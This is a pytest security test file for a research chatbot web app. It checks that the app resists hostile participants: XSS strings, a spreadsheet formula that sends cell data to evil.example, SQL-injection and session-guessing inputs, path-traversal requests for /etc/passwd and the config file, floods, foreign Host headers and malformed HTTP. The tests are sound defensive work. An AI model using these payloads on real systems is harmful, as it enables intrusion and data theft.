"""Hostile participants: script in messages and URL parameters stays text (chat page, dashboard,
export), nobody reads or writes another's conversation, session ids cannot be guessed, a flood is
rate-limited without slowing anyone else, and a foreign Host header is refused."""

from __future__ import annotations

import asyncio
import csv
import http.client
import io
import math
import os
import socket
import sqlite3
import string
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any, Callable
from urllib.parse import quote, urlencode

import httpx
import pytest
from starlette.testclient import TestClient

from tests.conftest import CHROMIUM, LiveServer
from tests.faultload import integrity
from tests.inprocess import Client, client_factory
from tests.test_page import expects, send, transcript

TOKEN = "hostile-test-researcher-token-0123456789"
HOSTILE_TEXT = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> my parcel never came'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me") <b>bold</b>'
HOSTILE_PID = '<script>window.__pwned="pid"</script>"><img src=x onerror=window.__pwned="img">'
HOSTILE_STUDY = "<svg onload=window.__pwned=3>"
CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
INJECTED = "#log script, #log img[src='x'], #log svg, #log [onerror], #log [onload]"


@pytest.fixture
def client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, started_app: Callable[..., TestClient]) -> Client:
    return client_factory(tmp_path, monkeypatch, started_app)


# --- script and HTML stay text --------------------------------------------------------------------

@pytest.mark.slow
def test_script_in_messages_and_url_parameters_is_inert_on_the_page_the_dashboard_and_in_the_export(
        live_server: Callable[..., LiveServer], study_file: Callable[..., Path]) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed")
    # The hostile recruitment id also flows into the survey link and the completion link.
    original = 'url = "https://example.qualtrics.com/jfe/form/SV_0000000000?pid={participant_id}"'
    config = study_file(replace={original: original[:-1] + '&prolific={PROLIFIC_PID}"\n'
                                 'completion_url = "https://app.prolific.com/submissions/complete?cc=C0DE&p={PROLIFIC_PID}"'})
    server = live_server(workers=1, config=config, env={**os.environ, "COMBOT_ADMIN_TOKEN": TOKEN})
    query = urlencode({"PROLIFIC_PID": HOSTILE_PID, "STUDY_ID": HOSTILE_STUDY})

    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(service_workers="block")
            outside: list[str] = []
            context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(server.url)
                          else (outside.append(route.request.url), route.abort()))
            page = context.new_page()
            page.goto(server.url + "?" + query)
            page.wait_for_selector(".msg--bot .bubble__text")
            for text in [HOSTILE_TEXT, FORMULA, "</p><p onclick=alert(1)>", "It was {{7*7}} days ${7*7} late."]:
                send(page, text)
            while expects(page) == "message":
                send(page, "<iframe src=javascript:window.__pwned=5>")
            send(page, "hostile@example.com")
            assert expects(page) == "done"
            page.wait_for_timeout(300)  # time for an injected handler to fire, if there were one

            for shown in (page, _reloaded(page)):
                assert shown.evaluate("typeof window.__pwned") == "undefined"
                assert shown.locator(INJECTED).count() == 0
                said = [t for sender, t in transcript(shown) if sender == "participant"]
                assert said[:2] == [HOSTILE_TEXT, FORMULA]
                hrefs = shown.eval_on_selector_all("a.survey-link", "links => links.map(a => a.href)")
                assert hrefs and all(h.startswith(("https://example.qualtrics.com/", "https://app.prolific.com/"))
                                     for h in hrefs)
                assert all(quote(HOSTILE_PID, safe="") in h for h in hrefs), hrefs
            assert outside == []

            # The researcher's dashboard, signed in with the token.
            admin = context.new_page()
            admin.goto(server.url + "admin")
            admin.fill("#token", TOKEN)
            admin.click("button[type=submit]")
            admin.wait_for_url(server.url + "admin")
            sync_api.expect(admin.locator("#total-started")).to_have_text("1", timeout=15000)
            admin.wait_for_timeout(300)
            assert admin.evaluate("typeof window.__pwned") == "undefined"
            assert admin.locator("script:not([src]), img[src='x'], svg[onload], [onerror]").count() == 0
        finally:
            browser.close()

    # The export has the text verbatim, and no cell a spreadsheet would run as a formula.
    archive = httpx.get(server.url + "admin/export.zip", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=60)
    assert archive.status_code == 200
    tables = {}
    with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
        for name in files.namelist():
            if name.endswith(".csv"):
                tables[name.rsplit("/", 1)[-1]] = list(csv.DictReader(io.StringIO(files.read(name).decode("utf-8"))))
    texts = [row["text"] for row in tables["messages.csv"] if row["sender"] == "participant"]
    assert HOSTILE_TEXT in texts and "'" + FORMULA in texts
    personal = tables["personal.csv"]
    assert [row["PROLIFIC_PID"] for row in personal] == [HOSTILE_PID]
    assert [row["STUDY_ID"] for row in personal] == [HOSTILE_STUDY]
    cells = [value for rows in tables.values() for row in rows for value in row.values() if value]
    assert not [value for value in cells if value.startswith("=")]
    assert integrity(server.database) == "ok"


def _reloaded(page: Any) -> Any:
    page.reload()
    page.wait_for_selector(".msg--participant")
    page.wait_for_timeout(300)
    return page


# --- one participant, one conversation --------------------------------------------------------------

def test_nobody_reads_or_writes_another_participants_conversation(client: Client, tmp_path: Path) -> None:
    c = client(environ={"COMBOT_ADMIN_TOKEN": TOKEN})
    mine = c.post("/api/sessions", json={}).json()
    theirs = c.post("/api/sessions", json={}).json()
    c.post(f"/api/sessions/{theirs['session_id']}/messages", json={"text": "My private story about a parcel."})
    conn = sqlite3.connect(tmp_path / "web.db")
    their_id = conn.execute("SELECT id FROM participants WHERE token = ?", (theirs["session_id"],)).fetchone()[0]
    before = conn.execute("SELECT count(*) FROM messages").fetchone()[0]
    token = theirs["session_id"]
    guesses = [their_id, token[:10], token[:-1], token + "x", token.swapcase(), token + " ", " " + token,
               quote(token[:16]) + "%25", "%", "_" * 32, "*", token[:16] + "%", "' OR '1'='1", "p%"]
    for guess in guesses:
        path = f"/api/sessions/{quote(guess, safe='')}"
        assert c.get(path).status_code == 404, guess
        answer = c.post(path + "/messages", json={"text": "I am someone else now.", "client_message_id": "m1"})
        assert answer.status_code == 404, guess
    # The participant's own responses never carry anybody else's token, id or words.
    own = c.get(f"/api/sessions/{mine['session_id']}").text
    assert token not in own and their_id not in own and "private story" not in own
    # A participant's token opens nothing on the researcher's side.
    for path in ("/admin/api/stats", "/admin/export.zip"):
        assert c.get(path, headers={"Authorization": f"Bearer {mine['session_id']}"}).status_code == 401
    assert conn.execute("SELECT count(*) FROM messages").fetchone()[0] == before
    conn.close()
    assert integrity(tmp_path / "web.db") == "ok"


def test_session_ids_cannot_be_guessed(client: Client, tmp_path: Path) -> None:
    c = client()
    tokens = [c.post("/api/sessions", json={}).json()["session_id"] for _ in range(1000)]
    assert len(set(tokens)) == 1000
    alphabet = set(string.ascii_letters + string.digits + "-_")  # base64url: 6 bits a character
    assert all(set(t) <= alphabet for t in tokens)
    bits = min(len(t) for t in tokens) * math.log2(len(alphabet))
    # Drawn evenly from the alphabet: the characters of 1000 tokens carry close to 6 bits each
    # (a counter, a clock or a short seed would show here).
    counts = Counter("".join(tokens))
    total = sum(counts.values())
    entropy = -sum(n / total * math.log2(n / total) for n in counts.values())
    ordered = sorted(tokens)
    shared = max(len(os.path.commonprefix(pair)) for pair in zip(ordered, ordered[1:]))
    print(f"\n[session ids] 1000 distinct, {min(len(t) for t in tokens)} characters, {bits:.0f} bits, "
          f"{entropy:.3f} bits per character observed, longest shared prefix {shared}")
    assert bits >= 128
    assert entropy > 5.9
    assert shared <= 6


# --- floods -------------------------------------------------------------------------------------

@pytest.mark.slow
def test_a_flood_is_rate_limited_and_everyone_else_carries_on(live_server: Callable[..., LiveServer]) -> None:
    workers, limit = 2, 10  # a whole conversation is 7 messages: nobody honest reaches 10 a minute
    server = live_server(workers=workers, env={**os.environ, "COMBOT_RATE_LIMIT": str(limit)})
    codes: Counter[int] = Counter()
    errors: list[str] = []
    others_finished = 0
    flooder = ""

    async def scenario() -> None:
        nonlocal others_finished, flooder
        async with httpx.AsyncClient(base_url=server.url, timeout=60,
                                     limits=httpx.Limits(max_connections=100)) as http:
            flooder = (await http.post("api/sessions", json={})).json()["session_id"]

            async def flood(i: int) -> None:
                answer = await http.post(f"api/sessions/{flooder}/messages",
                                         json={"text": f"spam {i} my parcel never arrived", "client_message_id": f"f{i}"})
                codes[answer.status_code] += 1
                if answer.status_code >= 400 and not answer.json().get("error"):
                    errors.append(answer.text)

            async def participant(k: int) -> None:
                nonlocal others_finished
                session = (await http.post("api/sessions", json={})).json()
                expects, turn = session["expects"], 0
                while expects in ("message", "email"):
                    await asyncio.sleep(0.1)
                    text = "me@example.com" if expects == "email" else f"Answer {turn}: the courier lost my parcel."
                    answer = await http.post(f"api/sessions/{session['session_id']}/messages",
                                             json={"text": text, "client_message_id": f"c{turn}"})
                    if answer.status_code != 200:
                        errors.append(f"participant {k}: {answer.status_code} {answer.text}")
                        return
                    expects, turn = answer.json()["expects"], turn + 1
                others_finished += expects == "done"

            await asyncio.gather(*(flood(i) for i in range(150)), *(participant(k) for k in range(5)))

    asyncio.run(scenario())
    conn = sqlite3.connect(server.database)
    accepted = conn.execute("SELECT count(*) FROM messages m JOIN participants p ON p.id = m.participant_id "
                            "WHERE m.sender = 'participant' AND p.token = ?", (flooder,)).fetchone()[0]
    conn.close()
    print(f"\n[flood] 150 messages at once from one participant: {dict(codes)}; stored {accepted}; "
          f"5 others finished: {others_finished}")
    assert errors == []
    assert set(codes) <= {200, 409, 429}
    # Past the limiter (200, or 409 when a concurrent message of the same conversation won).
    assert codes[200] + codes[409] <= limit * workers and codes[429] >= 150 - limit * workers
    # The limiter lives in each worker's memory: at most `limit` per worker get through it.
    assert accepted <= limit * workers
    assert others_finished == 5
    assert integrity(server.database) == "ok"


# --- the Host header, and raw paths over a real socket --------------------------------------------

def _raw(server: LiveServer, method: str, target: str, host: str | None) -> tuple[int, bytes]:
    address = server.url.split("//", 1)[1].rstrip("/")
    connection = http.client.HTTPConnection(address, timeout=30)
    try:
        connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        if host is not None:
            connection.putheader("Host", host)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


@pytest.mark.slow
def test_a_foreign_host_is_refused_and_raw_paths_stay_in_the_static_folder(
        live_server: Callable[..., LiveServer]) -> None:
    server = live_server(workers=1, env={**os.environ, "COMBOT_TRUSTED_HOSTS": "study.example.org,127.0.0.1"})
    for host in ("evil.example", "study.example.org.evil.example", "evil.example:80", "127.0.0.2", "",
                 "study.example.org@evil.example", "localhost"):
        status, _ = _raw(server, "GET", "/healthz", host)
        assert status == 400, host
    status, _ = _raw(server, "POST", "/api/sessions", "evil.example")
    assert status == 400
    for host in ("study.example.org", "study.example.org:8000", "STUDY.example.org"):
        assert _raw(server, "GET", "/healthz", host)[0] == 200, host
    # Absolute-form targets and forwarding headers do not smuggle another host in.
    assert _raw(server, "GET", "http://study.example.org/healthz", "evil.example")[0] == 400

    secret = Path(__file__).resolve().parent.parent.joinpath("combot.toml").read_bytes()[:100]
    for target in ("/static/../combot.toml", "/static/%2e%2e/combot.toml", "/static/..%2fcombot.toml",
                   "/static/%2e%2e%2fcombot.toml", "/static/..%5ccombot.toml", "/static/....//combot.toml",
                   "/static/%252e%252e/combot.toml", "/static/../../../../etc/passwd", "/static//etc/passwd",
                   "/static/%2fetc%2fpasswd", "/static/..;/combot.toml", "/../combot.toml", "/static/chat.js/../../combot.toml"):
        status, body = _raw(server, "GET", target, "study.example.org")
        assert status in (400, 404), (target, status)
        assert secret not in body and b"root:x:0:0" not in body, target
    assert _raw(server, "GET", "/static/chat.js", "study.example.org")[0] == 200


def _status_line(server: LiveServer, data: bytes, half_close: bool = True) -> bytes:
    """Send raw bytes; return the first line of the answer (b"" if the server just closed)."""
    address = server.url.split("//", 1)[1].rstrip("/")
    host, port = address.rsplit(":", 1)
    answer = b""
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        try:
            sock.sendall(data)
            if half_close:
                sock.shutdown(socket.SHUT_WR)
            while b"\r\n" not in answer:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                answer += chunk
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered early and closed: whatever arrived is the answer
    return answer.split(b"\r\n", 1)[0]


@pytest.mark.slow
def test_malformed_http_over_a_real_socket_gets_4xx_and_the_server_carries_on(
        live_server: Callable[..., LiveServer]) -> None:
    server = live_server(workers=1)
    session = httpx.post(server.url + "api/sessions", json={}).json()["session_id"]
    post = f"POST /api/sessions/{session}/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n".encode()
    cases = {
        "Content-Length over the limit": post + b"Content-Length: 99999999\r\n\r\n{}",
        "body shorter than its Content-Length": post + b"Content-Length: 1000\r\n\r\n{\"text\": \"hi",
        "chunked past the limit": post + b"Transfer-Encoding: chunked\r\n\r\n" + (b"4000\r\n" + b"a" * 0x4000 + b"\r\n") * 3
        + b"0\r\n\r\n",
        "Content-Length and chunked": post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "Content-Length not a number": post + b"Content-Length: abc\r\n\r\n",
        "negative Content-Length": post + b"Content-Length: -1\r\n\r\n",
        "bytes that are no header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: \xff\xfe\x00\r\n\r\n",
        "a 100 kB header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 100_000 + b"\r\n\r\n",
        "a TLS hello": b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(100)),
        "bytes in the path": b"GET /static/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
        "bad escapes in the path": b"GET /api/sessions/%ZZ%ff%fe%00 HTTP/1.1\r\nHost: x\r\n\r\n",
        "bad escapes in the query": b"POST /api/sessions?PROLIFIC_PID=%ff%fe%ZZ HTTP/1.1\r\nHost: x\r\n"
                                    b"Content-Length: 2\r\n\r\n{}",
        "bytes in the cookie": b"GET /admin/api/stats HTTP/1.1\r\nHost: x\r\nCookie: combot_admin=\xff\xfe; a=\"\r\n\r\n",
        "bytes in the token": b"GET /admin/api/stats HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\xc3\r\n\r\n",
        "bytes in the login form": b"POST /admin/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
                                   b"\r\nContent-Length: 12\r\n\r\ntoken=%ff%fe",
    }
    seen = {}
    for name, data in cases.items():
        line = _status_line(server, data)
        seen[name] = line.decode("latin-1")
        status = int(line.split()[1]) if line.startswith(b"HTTP/") else 0
        assert status < 500, (name, line)
    print("\n[malformed http] " + "; ".join(f"{name}: {line or 'closed'}" for name, line in seen.items()))
    assert "Traceback" not in server.output()
    assert httpx.get(server.url + "healthz").status_code == 200
    assert integrity(server.database) == "ok"
